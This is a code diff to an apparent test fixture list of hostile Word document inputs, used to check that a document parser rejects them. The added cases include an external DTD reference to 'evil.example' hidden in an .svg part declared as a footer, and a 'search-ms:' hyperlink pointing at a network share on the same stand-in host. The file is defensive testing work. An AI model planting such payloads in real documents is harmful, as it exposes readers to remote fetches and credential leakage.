@@ -97,6 +97,18 @@ export const hostileContents: HostileManuscript[] = [
 		make: () => manuscript([{ name: 'word/media/a.svg', data: `${entity}<svg>&x;</svg>` }]),
 		why: 'a DTD',
 	},
+	{
+		name: 'a document type in a footer called .svg',
+		make: () =>
+			manuscript(
+				[{ name: 'word/a.svg', data: '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>' }],
+				{},
+				{
+					types: contentTypes(undefined, `<Override PartName="/word/a.svg" ContentType="${wordType}.footer+xml"/>`),
+				},
+			),
+		why: 'a DTD behind another extension',
+	},
 	{ name: 'an unknown entity', make: () => withDocument(documentXml('<w:t>&x;</w:t>')), why: 'not well formed' },
 	{
 		name: 'deep nesting',
@@ -246,8 +258,8 @@ export const hostileContents: HostileManuscript[] = [
 		why: 'signs in to a stranger',
 	},
 	{
-		name: 'a link that runs a script',
-		make: () => external('hyperlink', 'javascript:alert(1)'),
+		name: 'a link that searches a share',
+		make: () => external('hyperlink', 'search-ms:query=x&amp;crumb=location:\\\\evil.example\\share'),
 		why: 'starts a program',
 	},
 	{
